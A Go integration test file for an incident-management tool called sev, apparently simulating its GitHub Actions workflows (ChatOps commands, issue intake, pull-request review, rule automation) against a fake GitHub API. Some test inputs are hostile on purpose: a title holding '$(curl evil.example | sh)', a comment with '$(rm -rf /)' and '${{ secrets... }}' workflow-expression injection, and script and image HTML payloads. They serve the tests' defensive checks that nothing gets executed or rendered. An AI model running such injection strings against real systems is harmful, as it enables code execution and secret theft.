package cli_test

import (
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/sev-dev/sev/internal/ghfake"
)

// The GitHub workflows, simulated end to end: a real git repository with a
// bare remote, the event file and the variables the runner sets, the fake
// GitHub API (which checks every request against GitHub's OpenAPI
// description), and sev run in-process as the workflow's step would run it.

const (
	ghOwner, ghName = "northwind", "incidents"
	ghToken         = "ghs_workflowtoken"
	ghServer        = "https://github.com"
)

// people maps the test's GitHub logins to sev handles.
const people = `people:
  - handle: alice
    name: Alice Example
    email: alice@example.com
    github: alice-gh
  - handle: bob
    name: Bob Example
    email: bob@example.com
    github: bob-gh
`

type ghWorld struct {
	t            *testing.T
	env          []string
	repo, remote string
	seed         string // another clone, where people work
	fake         *ghfake.Server
	tmp          string
}

func newGHWorld(t *testing.T) *ghWorld {
	t.Helper()
	env := gitEnv(t)
	root := t.TempDir()
	w := &ghWorld{t: t, env: env, remote: filepath.Join(root, "remote.git"), repo: filepath.Join(root, "work"), tmp: filepath.Join(root, "runner")}
	os.MkdirAll(w.tmp, 0o755)
	w.fake = ghfake.New(t, ghfake.Options{Owner: ghOwner, Repo: ghName, Token: ghToken})
	git(t, env, root, "init", "-q", "--bare", w.remote)
	seed := filepath.Join(root, "seed")
	w.seed = seed
	git(t, env, root, "clone", "-q", w.remote, seed)
	if _, e, code := sev(t, env, seed, "init"); code != 0 {
		t.Fatalf("sev init: %s", e)
	}
	cfg := filepath.Join(seed, "sev.yaml")
	data, _ := os.ReadFile(cfg)
	os.WriteFile(cfg, []byte(strings.Replace(string(data), "people: []\n", people, 1)), 0o644)
	git(t, env, seed, "add", "-A")
	git(t, env, seed, "commit", "-q", "-m", "sev: set up")
	git(t, env, seed, "push", "-q", "origin", "HEAD:main")
	// The ChatOps and intake workflows check out only the tip, as
	// actions/checkout does by default: the clone is shallow.
	git(t, env, root, "clone", "-q", "--depth", "1", "file://"+w.remote, w.repo)
	return w
}

func issueURL(n int) string {
	return ghServer + "/" + ghOwner + "/" + ghName + "/issues/" + strconv.Itoa(n)
}

// run writes the event and runs `sev ARGS` as a workflow step would.
func (w *ghWorld) run(event string, payload map[string]any, args ...string) (string, string, int) {
	w.t.Helper()
	repo := map[string]any{
		"full_name": ghOwner + "/" + ghName, "name": ghName, "default_branch": "main",
		"html_url": ghServer + "/" + ghOwner + "/" + ghName, "private": true, "visibility": "private",
		"owner": map[string]any{"login": ghOwner, "type": "Organization"},
	}
	if given, ok := payload["repository"].(map[string]any); ok && given["visibility"] == "public" {
		repo["private"], repo["visibility"] = false, "public" // the test asks for a public repository
	}
	payload["repository"] = repo
	data, err := json.Marshal(payload)
	if err != nil {
		w.t.Fatal(err)
	}
	path := filepath.Join(w.tmp, "event.json")
	if err := os.WriteFile(path, data, 0o644); err != nil {
		w.t.Fatal(err)
	}
	head := strings.TrimSpace(git(w.t, w.env, w.repo, "rev-parse", "HEAD"))
	env := append(append([]string{}, w.env...),
		"GITHUB_ACTIONS=true", "GITHUB_EVENT_NAME="+event, "GITHUB_EVENT_PATH="+path,
		"GITHUB_REPOSITORY="+ghOwner+"/"+ghName, "GITHUB_REPOSITORY_OWNER="+ghOwner,
		"GITHUB_SERVER_URL="+ghServer, "GITHUB_API_URL="+strings.TrimSuffix(w.fake.URL, "/"),
		"GITHUB_TOKEN="+ghToken, "GITHUB_SHA="+head, "GITHUB_REF=refs/heads/main", "GITHUB_ACTOR=alice-gh",
		"GITHUB_RUN_ID=4242", "GITHUB_WORKSPACE="+w.repo, "RUNNER_TEMP="+w.tmp,
		"GITHUB_OUTPUT="+filepath.Join(w.tmp, "output"), "GITHUB_STEP_SUMMARY="+filepath.Join(w.tmp, "summary"))
	return sev(w.t, env, w.repo, args...)
}

// remoteHead is the remote main's commit.
func (w *ghWorld) remoteHead() string {
	return strings.TrimSpace(git(w.t, w.env, w.remote, "rev-parse", "main"))
}

// clean checks the remote and the clone with git itself.
func (w *ghWorld) clean() {
	w.t.Helper()
	git(w.t, w.env, w.remote, "fsck", "--strict")
	git(w.t, w.env, w.repo, "fsck", "--strict")
	if st := git(w.t, w.env, w.repo, "status", "--porcelain"); st != "" {
		w.t.Errorf("git status is not clean:\n%s", st)
	}
}

// declareLinked declares an incident linked to issue n and pushes it.
func (w *ghWorld) declareLinked(title string, n int, extra ...string) string {
	w.t.Helper()
	args := append([]string{"declare", title, "--by", "alice", "--link", "issue=" + issueURL(n), "--push"}, extra...)
	out, e, code := sev(w.t, w.env, w.repo, args...)
	if code != 0 {
		w.t.Fatalf("declare: %s", e)
	}
	id := strings.Fields(strings.TrimPrefix(out, "declared "))[0]
	w.fake.AddIssue(ghfake.Issue{Number: n, Title: title, Author: "alice-gh"})
	return id
}

func commentEvent(t *testing.T, issue int, id int64, login, body string) map[string]any {
	p := ghfake.Event(t, "issue_comment", "created")
	c := p["comment"].(map[string]any)
	c["id"], c["body"] = id, body
	c["user"] = map[string]any{"login": login, "type": "User", "id": 1}
	is := p["issue"].(map[string]any)
	is["number"], is["html_url"] = issue, issueURL(issue)
	delete(is, "pull_request")
	return p
}

func TestChatOpsRecordsCommandsOnce(t *testing.T) {
	w := newGHWorld(t)
	id := w.declareLinked("Checkout errors in EU", 7)
	w.fake.SetPermission("alice-gh", "write")
	body := "Rolling back now.\n/sev status mitigated\n/sev note rolled back `v2` $(rm -rf /) ${{ secrets.X }} @everyone\n/sev assign scribe @bob-gh"
	cid := w.fake.AddComment(7, "alice-gh", body)
	// Someone pushes while the workflow runs on its shallow checkout.
	git(t, w.env, w.seed, "pull", "-q", "origin", "main")
	if _, e, code := sev(t, w.env, w.seed, "note", id, "Paged the payments team", "--by", "bob", "--push"); code != 0 {
		t.Fatal(e)
	}
	before := w.remoteHead()

	out, e, code := w.run("issue_comment", commentEvent(t, 7, cid, "alice-gh", body), "github", "comment")
	if code != 0 {
		t.Fatalf("github comment: exit %d\n%s\n%s", code, out, e)
	}
	commits := strings.Fields(git(t, w.env, w.remote, "log", "--format=%ae", before+"..main"))
	if len(commits) != 3 || commits[0] != "alice@example.com" {
		t.Errorf("commits on the remote by %v, want 3 by Alice Example", commits)
	}
	var show string
	git(t, w.env, w.repo, "pull", "-q", "origin", "main")
	show, _, _ = sev(t, w.env, w.repo, "show", id, "--json")
	for _, want := range []string{"Paged the payments team", `"status": "mitigated"`, `"scribe": "bob"`, "rolled back `v2` $(rm -rf /) ${{ secrets.X }} @everyone"} {
		if !strings.Contains(show, want) {
			t.Errorf("the incident does not have %s:\n%s", want, show)
		}
	}
	c, _ := w.fake.Comment(cid)
	if len(c.Reactions) != 1 || c.Reactions[0].Content != "+1" {
		t.Errorf("reactions %v, want one +1", c.Reactions)
	}
	replies := w.fake.Comments(7)
	if len(replies) != 2 || !strings.Contains(replies[1].Body, "Recorded in") {
		t.Fatalf("replies: %+v", replies)
	}
	if strings.Contains(replies[1].Body, "@everyone") {
		t.Errorf("the reply mentions @everyone live:\n%s", replies[1].Body)
	}
	w.clean()

	// The same event again (a re-run of the workflow) records nothing.
	head := w.remoteHead()
	if out, e, code := w.run("issue_comment", commentEvent(t, 7, cid, "alice-gh", body), "github", "comment"); code != 0 {
		t.Fatalf("second run: exit %d\n%s\n%s", code, out, e)
	}
	if w.remoteHead() != head {
		t.Errorf("the second run committed: %s", git(t, w.env, w.remote, "log", "--oneline", head+"..main"))
	}
	if n := len(w.fake.Comments(7)); n != 2 {
		t.Errorf("%d comments after the second run, want 2 (the reply updated in place)", n)
	}
	w.clean()
}

func TestChatOpsRefusesWithoutWritePermission(t *testing.T) {
	w := newGHWorld(t)
	w.declareLinked("Checkout errors in EU", 7)
	w.fake.SetPermission("mallory", "read")
	cid := w.fake.AddComment(7, "mallory", "/sev status resolved")
	head := w.remoteHead()
	if _, e, code := w.run("issue_comment", commentEvent(t, 7, cid, "mallory", "/sev status resolved"), "github", "comment"); code != 0 {
		t.Fatalf("exit %d: %s", code, e)
	}
	if w.remoteHead() != head {
		t.Error("a reader's command was recorded")
	}
	c, _ := w.fake.Comment(cid)
	if len(c.Reactions) != 1 || c.Reactions[0].Content != "confused" {
		t.Errorf("reactions %v, want confused", c.Reactions)
	}
	if r := w.fake.Comments(7); len(r) != 2 || !strings.Contains(r[1].Body, "write permission") {
		t.Errorf("replies %+v", r)
	}
}

// A comment whose second command fails keeps what the first recorded and
// says so.
func TestChatOpsStopsAtAFailingCommand(t *testing.T) {
	w := newGHWorld(t)
	w.declareLinked("Checkout errors in EU", 7)
	w.fake.SetPermission("alice-gh", "admin")
	body := "/sev status mitigated\n/sev status nonsense-status\n/sev note never recorded"
	cid := w.fake.AddComment(7, "alice-gh", body)
	head := w.remoteHead()
	_, _, code := w.run("issue_comment", commentEvent(t, 7, cid, "alice-gh", body), "github", "comment")
	if code != 1 {
		t.Errorf("exit %d, want 1", code)
	}
	r := w.fake.Comments(7)
	if len(r) != 2 || !strings.Contains(r[1].Body, "status → mitigated") || !strings.Contains(r[1].Body, "line 2 failed") {
		t.Errorf("replies %+v", r)
	}
	if n := strings.Count(git(t, w.env, w.remote, "log", "--oneline", head+"..main"), "\n"); n != 1 {
		t.Errorf("%d commits, want the first command's only", n)
	}
}

func TestIntakeDeclaresFromTheIssueForm(t *testing.T) {
	w := newGHWorld(t)
	title := "Checkout `$(curl evil.example | sh)` ${{ secrets.GITHUB_TOKEN }} errors\nset-output"
	body := "### Severity\n\nSEV1\n\n### What is happening\n\nPayments fail for <b>EU</b> customers @everyone\n\n### Who noticed\n\n_No response_\n"
	n := w.fake.AddIssue(ghfake.Issue{Title: title, Body: body, Labels: []string{"incident"}, Author: "bob-gh"})
	p := intakeEvent(t, "opened", n, title, body, "bob-gh", "MEMBER")
	before := w.remoteHead()

	out, e, code := w.run("issues", p, "github", "intake")
	if code != 0 {
		t.Fatalf("intake: exit %d\n%s\n%s", code, out, e)
	}
	list, _, _ := sev(t, w.env, w.repo, "list", "--json")
	if strings.Count(list, `"id"`) != 1 || !strings.Contains(list, `"severity": 1`) {
		t.Fatalf("incidents after intake:\n%s", list)
	}
	if log := git(t, w.env, w.remote, "log", "--format=%an", before+"..main"); !strings.Contains(log, "Bob Example") {
		t.Errorf("the incident was not declared by the issue's author: %q", log)
	}
	r := w.fake.Comments(n)
	if len(r) != 1 || !strings.Contains(r[0].Body, "Declared [") || !strings.Contains(r[0].Body, "/sev note") {
		t.Fatalf("intake reply: %+v", r)
	}
	w.clean()

	// Opened again (a re-run), and labeled later: no second incident.
	head := w.remoteHead()
	if _, e, code := w.run("issues", p, "github", "intake"); code != 0 {
		t.Fatalf("second intake: %s", e)
	}
	if w.remoteHead() != head || len(w.fake.Comments(n)) != 1 {
		t.Error("the second intake declared again or replied twice")
	}
}

// TestIntakeWithoutTheLabel: in a repository without the "incident" label
// GitHub drops the form's label; the form's headings still declare, and
// sev labels the issue. An issue opened without the form declares nothing.
func TestIntakeWithoutTheLabel(t *testing.T) {
	w := newGHWorld(t)
	body := "### Severity\n\nSEV2\n\n### What is happening\n\nSearch is slow\n\n### Who noticed\n\nSupport\n"
	n := w.fake.AddIssue(ghfake.Issue{Title: "Search is slow", Body: body, Author: "bob-gh"})
	p := intakeEvent(t, "opened", n, "Search is slow", body, "bob-gh", "MEMBER")
	p["issue"].(map[string]any)["labels"] = []any{}
	out, e, code := w.run("issues", p, "github", "intake")
	if code != 0 || !strings.Contains(out, "declared ") {
		t.Fatalf("intake of the form without its label: exit %d\n%s\n%s", code, out, e)
	}
	if is, _ := w.fake.Issue(n); !slices.Contains(is.Labels, "incident") {
		t.Errorf("the issue was not labelled: %v", is.Labels)
	}
	w.clean()

	other := w.fake.AddIssue(ghfake.Issue{Title: "Typo on the pricing page", Body: "It says 'pirce'.", Author: "bob-gh"})
	q := intakeEvent(t, "opened", other, "Typo on the pricing page", "It says 'pirce'.", "bob-gh", "MEMBER")
	q["issue"].(map[string]any)["labels"] = []any{}
	head := w.remoteHead()
	out, e, code = w.run("issues", q, "github", "intake")
	if code != 0 || !strings.Contains(out, "not an incident report") || w.remoteHead() != head {
		t.Errorf("an ordinary issue: exit %d\n%s\n%s", code, out, e)
	}
}

// intakeEvent is an issues event for issue n, opened or labelled
// "incident" by author, whom GitHub names with association.
func intakeEvent(t *testing.T, action string, n int, title, body, author, association string) map[string]any {
	p := ghfake.Event(t, "issues", action)
	is := p["issue"].(map[string]any)
	is["number"], is["title"], is["body"], is["html_url"] = n, title, body, issueURL(n)
	is["user"] = map[string]any{"login": author, "type": "User", "id": 2}
	is["author_association"] = association
	is["labels"] = []any{map[string]any{"name": "incident"}}
	delete(is, "pull_request")
	return p
}

// TestIntakeRefusesOutsiders: an issue opened and labelled by someone who
// is neither a member nor a collaborator, without write permission,
// declares nothing and pushes nothing; a member with write permission who
// adds the label again vouches for it.
func TestIntakeRefusesOutsiders(t *testing.T) {
	w := newGHWorld(t)
	w.fake.SetPermission("mallory", "read")
	title := "SEV1 everything is down"
	body := "### Severity\n\nSEV1\n\n### What is happening\n\nplease page everyone\n"
	n := w.fake.AddIssue(ghfake.Issue{Title: title, Body: body, Labels: []string{"incident"}, Author: "mallory"})
	event := func(sender string) map[string]any {
		p := intakeEvent(t, "labeled", n, title, body, "mallory", "NONE")
		p["label"] = map[string]any{"name": "incident"}
		p["sender"] = map[string]any{"login": sender, "type": "User", "id": 67}
		repo := p["repository"].(map[string]any)
		repo["private"], repo["visibility"] = false, "public" // anyone can open an issue
		return p
	}
	before := w.remoteHead()
	out, e, code := w.run("issues", event("mallory"), "github", "intake")
	if code != 0 {
		t.Fatalf("intake: exit %d\n%s\n%s", code, out, e)
	}
	if w.remoteHead() != before {
		t.Fatalf("an outsider's issue pushed a commit\n%s\n%s", out, e)
	}
	if list, _, _ := sev(t, w.env, w.repo, "list", "--json"); strings.Contains(list, `"id"`) {
		t.Fatalf("an outsider's issue declared an incident:\n%s", list)
	}
	if r := w.fake.Comments(n); len(r) != 1 || strings.Contains(r[0].Body, "Declared") {
		t.Fatalf("reply to the outsider: %+v", r)
	}
	w.fake.SetPermission("alice-gh", "write")
	if _, e, code := w.run("issues", event("alice-gh"), "github", "intake"); code != 0 {
		t.Fatalf("intake vouched for by alice: %s", e)
	}
	if w.remoteHead() == before {
		t.Error("a member's label did not declare the incident")
	}
}

func TestReviewCommentsOnceAndSkipsForks(t *testing.T) {
	w := newGHWorld(t)
	sev(t, w.env, w.repo, "declare", "Orders database failover", "--by", "alice", "--push")
	base := w.remoteHead()
	git(t, w.env, w.repo, "checkout", "-q", "-b", "declare-checkout")
	if _, e, code := sev(t, w.env, w.repo, "declare", "Checkout errors in EU <script>alert(1)</script>", "--sev", "2", "--by", "bob"); code != 0 {
		t.Fatal(e)
	}
	// a record validate rejects (severity 300) is not described
	bad := filepath.Join(w.repo, "incidents", "2026", "2026-03-02-hand-written")
	os.MkdirAll(bad, 0o755)
	os.WriteFile(filepath.Join(bad, "incident.yaml"), []byte("id: 2026-03-02-hand-written\ntitle: Vault zqxsecret exposed\nseverity: 300\nstatus: open\nvisibility: public\n"), 0o644)
	git(t, w.env, w.repo, "add", "-A")
	git(t, w.env, w.repo, "commit", "-q", "-m", "hand-written")
	git(t, w.env, w.repo, "push", "-q", "origin", "declare-checkout")
	head := strings.TrimSpace(git(t, w.env, w.repo, "rev-parse", "HEAD"))
	n := w.fake.AddIssue(ghfake.Issue{Title: "Declare checkout", PR: true, Author: "bob-gh"})
	event := func(headRepo string) map[string]any {
		p := ghfake.Event(t, "pull_request", "opened")
		p["number"] = n
		pr := p["pull_request"].(map[string]any)
		pr["number"] = n
		pr["head"] = map[string]any{"sha": head, "ref": "declare-checkout", "repo": map[string]any{"full_name": headRepo}}
		pr["base"] = map[string]any{"sha": base, "ref": "main", "repo": map[string]any{"full_name": ghOwner + "/" + ghName}}
		return p
	}
	if out, e, code := w.run("pull_request", event(ghOwner+"/"+ghName), "github", "review"); code != 0 {
		t.Fatalf("review: exit %d\n%s\n%s", code, out, e)
	}
	r := w.fake.Comments(n)
	if len(r) != 1 || !strings.Contains(r[0].Body, "Checkout errors in EU") || !strings.Contains(r[0].Body, "declared") {
		t.Fatalf("review comment: %+v", r)
	}
	if strings.Contains(r[0].Body, "zqxsecret") {
		t.Errorf("the comment describes a record validate rejects:\n%s", r[0].Body)
	}
	if strings.Contains(r[0].Body, "<script>") {
		t.Errorf("the title reached the comment as HTML:\n%s", r[0].Body)
	}
	if strings.Contains(r[0].Body, "Orders database failover\n") {
		t.Errorf("the comment lists an incident the pull request does not change")
	}
	if _, _, code := w.run("pull_request", event(ghOwner+"/"+ghName), "github", "review"); code != 0 || len(w.fake.Comments(n)) != 1 {
		t.Errorf("a second review wrote a second comment")
	}
	requests := len(w.fake.Requests())
	if out, _, code := w.run("pull_request", event("mallory/incidents"), "github", "review"); code != 0 || !strings.Contains(out, "fork") {
		t.Errorf("fork: exit %d, %q", code, out)
	}
	if len(w.fake.Requests()) != requests {
		t.Error("a fork's pull request made API calls")
	}
}

// TestAutomateGivesUpOnAGoneWebhook: a webhook that answers 410 Gone is
// recorded as given up in the timeline, and the next run does not send it
// again (it used to be retried on every hourly run, forever).
func TestAutomateGivesUpOnAGoneWebhook(t *testing.T) {
	hits := 0
	w, p, id := automateWorld(t, http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		hits++
		http.Error(rw, "no_service", http.StatusGone)
	}))
	out, e, code := w.run("push", p, "automate")
	if code != 1 || !strings.Contains(out, "failed for good") {
		t.Fatalf("automate: exit %d\n%s\n%s", code, out, e)
	}
	if show, _, _ := sev(t, w.env, w.repo, "show", id); !strings.Contains(show, "answered 410 Gone") {
		t.Errorf("the timeline does not record the gone webhook:\n%s", show)
	}
	w.clean()
	if out, e, code := w.run("push", p, "automate"); code != 0 || hits != 1 {
		t.Errorf("second run: exit %d, %d deliveries in all\n%s\n%s", code, hits, out, e)
	}
}

// kintaba is Kintaba's example as a rule, with the test's rotation and a
// role sev init's settings have.
const kintaba = `on: [declared, severity-changed, tag-added: security]
if:
  severity: {at-least: SEV1}
  tags: {any: [security]}
steps:
  - note: "Security process: https://wiki.example/security"
  - assign: {role: deputy, rotation: security}
  - mention: [{role: deputy}]
  - label: [security]
  - webhook: {name: security-chat, url-env: SECURITY_CHAT_WEBHOOK, format: slack}
`

const securityRotation = `org: security
timezone: UTC
layers:
  - name: weekly
    members: [bob]
    shift: 1w
    start: 2026-01-05T09:00:00Z
`

// automateWorld pushes a SEV1 security incident that the Kintaba rule
// answers, with its chat webhook served by hook, and returns the world,
// the push event and the incident's ID.
func automateWorld(t *testing.T, hook http.Handler) (*ghWorld, map[string]any, string) {
	w := newGHWorld(t)
	srv := httptest.NewServer(hook)
	t.Cleanup(srv.Close)
	os.WriteFile(filepath.Join(w.seed, "rules", "security-sev1.yaml"), []byte(kintaba), 0o644)
	os.WriteFile(filepath.Join(w.seed, "rotations", "security.yaml"), []byte(securityRotation), 0o644)
	git(t, w.env, w.seed, "add", "-A")
	git(t, w.env, w.seed, "commit", "-q", "-m", "rules: security")
	git(t, w.env, w.seed, "push", "-q", "origin", "HEAD:main")
	before := w.remoteHead()
	out, e, code := sev(t, w.env, w.seed, "declare", "Leaked credential <img src=x> @everyone", "--sev", "1", "--tag", "security",
		"--by", "alice", "--link", "issue="+issueURL(9), "--push")
	if code != 0 {
		t.Fatal(e)
	}
	id := strings.Fields(strings.TrimPrefix(out, "declared "))[0]
	w.fake.AddIssue(ghfake.Issue{Number: 9, Title: "Leaked credential"})
	after := w.remoteHead()
	git(t, w.env, w.repo, "fetch", "-q", "--unshallow", "origin")
	git(t, w.env, w.repo, "pull", "-q", "origin", "main")
	p := ghfake.Event(t, "push", "")
	p["before"], p["after"], p["ref"], p["created"], p["forced"] = before, after, "refs/heads/main", false, false
	w.env = append(w.env, "SECURITY_CHAT_WEBHOOK="+srv.URL, "SEV_WEBHOOKS_ALLOW_PRIVATE=1", "SEV_WEBHOOKS_ALLOW_HTTP=1",
		"SEV_NOW=2026-03-02T10:00:00Z")
	return w, p, id
}

func TestAutomateRunsRulesOnceOnAPush(t *testing.T) {
	var deliveries []string
	w, p, id := automateWorld(t, http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		deliveries = append(deliveries, r.Header.Get("X-Sev-Delivery")+" "+string(body))
	}))
	after := w.remoteHead()
	out, e, code := w.run("push", p, "automate")
	if code != 0 {
		t.Fatalf("automate: exit %d\n%s\n%s", code, out, e)
	}
	show, _, _ := sev(t, w.env, w.repo, "show", id, "--json")
	for _, want := range []string{"Security process: https://wiki.example/security", `"deputy": "bob"`} {
		if !strings.Contains(show, want) {
			t.Errorf("the incident lacks %s:\n%s", want, show)
		}
	}
	if log := git(t, w.env, w.remote, "log", "--format=%an", after+"..main"); !strings.Contains(log, "sev") {
		t.Errorf("no automation commit on the remote: %q", log)
	}
	comments := w.fake.Comments(9)
	if len(comments) != 1 || !strings.Contains(comments[0].Body, "@bob-gh") {
		t.Errorf("comments on the incident's issue: %+v", comments)
	}
	for _, c := range comments {
		if strings.Count(c.Body, "<!-- sev:") != 1 {
			t.Errorf("a rule's comment carries its marker %d times: %q", strings.Count(c.Body, "<!-- sev:"), c.Body)
		}
	}
	if is, _ := w.fake.Issue(9); len(is.Labels) != 1 || is.Labels[0] != "security" {
		t.Errorf("labels %v", is.Labels)
	}
	if len(deliveries) != 1 || strings.Contains(deliveries[0], "<img") {
		t.Errorf("webhook deliveries: %q", deliveries)
	}
	if summary, _ := os.ReadFile(filepath.Join(w.tmp, "summary")); !strings.Contains(string(summary), `security\-sev1 | label issue`) {
		t.Errorf("job summary:\n%s", summary)
	}
	w.clean()

	// A second run on the same push changes nothing and calls nothing.
	head := w.remoteHead()
	if out, e, code := w.run("push", p, "automate"); code != 0 {
		t.Fatalf("second automate: exit %d\n%s\n%s", code, out, e)
	}
	if w.remoteHead() != head || len(deliveries) != 1 || len(w.fake.Comments(9)) != 1 {
		t.Errorf("the second run did something: head moved %v, %d deliveries, %d comments",
			w.remoteHead() != head, len(deliveries), len(w.fake.Comments(9)))
	}
	w.clean()

	// Automation's own push (pushed with a GitHub App's token, it starts
	// the workflow) is nothing to do.
	own := ghfake.Event(t, "push", "")
	own["before"], own["after"], own["ref"], own["created"], own["forced"] = after, head, "refs/heads/main", false, false
	out, e, code = w.run("push", own, "automate")
	if code != 0 || !strings.Contains(out, "nothing to do: the commits hold only the") {
		t.Errorf("automate on automation's own commits: exit %d\n%s\n%s", code, out, e)
	}
	if w.remoteHead() != head || len(deliveries) != 1 || len(w.fake.Comments(9)) != 1 {
		t.Error("automate acted on automation's own commits")
	}
	w.clean()
}

// TestAutomateRecordsADispatchedAlert: a repository_dispatch of type
// sev-alert declares an incident by sev.yaml's alerts routes, the rules see
// it as new (its route's policy is started by a rule), and a repeated
// dispatch records nothing twice.
func TestAutomateRecordsADispatchedAlert(t *testing.T) {
	w := newGHWorld(t)
	cfg := filepath.Join(w.seed, "sev.yaml")
	data, _ := os.ReadFile(cfg)
	os.WriteFile(cfg, append(data, []byte(`alerts:
  routes:
    - match: {team: payments}
      severity: 1
      tags: [payments]
`)...), 0o644)
	os.MkdirAll(filepath.Join(w.seed, "escalations"), 0o755)
	os.WriteFile(filepath.Join(w.seed, "escalations", "payments.yaml"), []byte("levels:\n  - notify: [role:commander]\n"), 0o644)
	os.WriteFile(filepath.Join(w.seed, "rules", "payments.yaml"), []byte("on: declared\nif:\n  tags: {any: [payments]}\nsteps:\n  - escalate: payments\n"), 0o644)
	git(t, w.env, w.seed, "add", "-A")
	git(t, w.env, w.seed, "commit", "-q", "-m", "alerts")
	git(t, w.env, w.seed, "push", "-q", "origin", "HEAD:main")
	os.RemoveAll(w.repo) // the workflow checks out the tip afresh
	git(t, w.env, filepath.Dir(w.repo), "clone", "-q", "--depth", "1", "file://"+w.remote, w.repo)
	alert := map[string]any{"version": "4", "groupKey": `{}:{alertname="CheckoutErrors"}`, "status": "firing",
		"commonLabels": map[string]string{"alertname": "CheckoutErrors", "team": "payments"}, "commonAnnotations": map[string]string{"summary": "Checkout error rate above 5%"},
		"alerts": []map[string]any{{"status": "firing", "labels": map[string]string{"alertname": "CheckoutErrors"}, "startsAt": "2026-03-02T13:58:00Z", "fingerprint": "c0ffee"}}}
	ev := map[string]any{"action": "sev-alert", "client_payload": map[string]any{"alert": alert}}
	out, e, code := w.run("repository_dispatch", ev, "automate")
	if code != 0 || !regexp.MustCompile(`declared \d{4}-\d{2}-\d{2}-checkout-error-rate-above-5`).MatchString(out) {
		t.Fatalf("automate: exit %d\n%s\n%s", code, out, e)
	}
	head := w.remoteHead()
	show, _, _ := sev(t, w.env, w.repo, "show", "checkout", "--json")
	for _, want := range []string{`"severity": 1`, `"type": "escalate"`, `"value": "payments"`, `"text": "firing: CheckoutErrors"`} {
		if !strings.Contains(show, want) {
			t.Errorf("missing %s in\n%s", want, show)
		}
	}
	if out, e, code := w.run("repository_dispatch", ev, "automate"); code != 0 || !strings.Contains(out, "already recorded") {
		t.Errorf("the same dispatch again: exit %d\n%s\n%s", code, out, e)
	}
	if w.remoteHead() != head {
		t.Error("the repeated dispatch pushed something")
	}
	bad := map[string]any{"action": "sev-alert", "client_payload": alert}
	if _, e, code := w.run("repository_dispatch", bad, "automate"); code == 0 || !strings.Contains(e, "client_payload.alert") {
		t.Errorf("an alert not under client_payload.alert: exit %d %s", code, e)
	}
	w.clean()
}
